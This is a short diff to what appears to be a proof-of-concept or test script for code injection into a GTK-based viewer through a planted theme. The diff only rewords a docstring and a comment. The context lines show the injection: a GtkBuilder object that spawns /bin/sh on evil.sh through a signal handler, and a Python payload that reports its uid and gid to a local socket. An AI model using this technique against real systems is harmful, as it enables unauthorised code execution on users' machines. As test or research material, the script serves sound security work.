@@ -1,4 +1,4 @@
-"""A granted user has the viewer take its windows, and what these call, from a theme in his directory for files."""
+"""A granted user has the viewer take its windows, and what these call, from a theme in the directory for files."""
 
 import struct
 import subprocess
@@ -16,7 +16,7 @@ OBJECT = f"""
 <object class="GSubprocess" type-func="g_subprocess_get_type" id="evil"><property name="argv">/bin/sh
 {CONSOLE}/evil.sh</property></object></interface>"""
 SIGNAL = '<signal name="style-set" handler="g_initable_init" object="evil" swapped="yes"/>'
-# Tells as whom it runs, as the shared object does.
+# Reports as whom it runs, as the shared object does.
 SCRIPT = """exec /usr/bin/python3 -ISc 'import os, socket
 socket.create_connection(("127.0.0.1", 7777)).sendall(b"%d %d\\n" % (os.getuid(), os.getgid()))'
 """
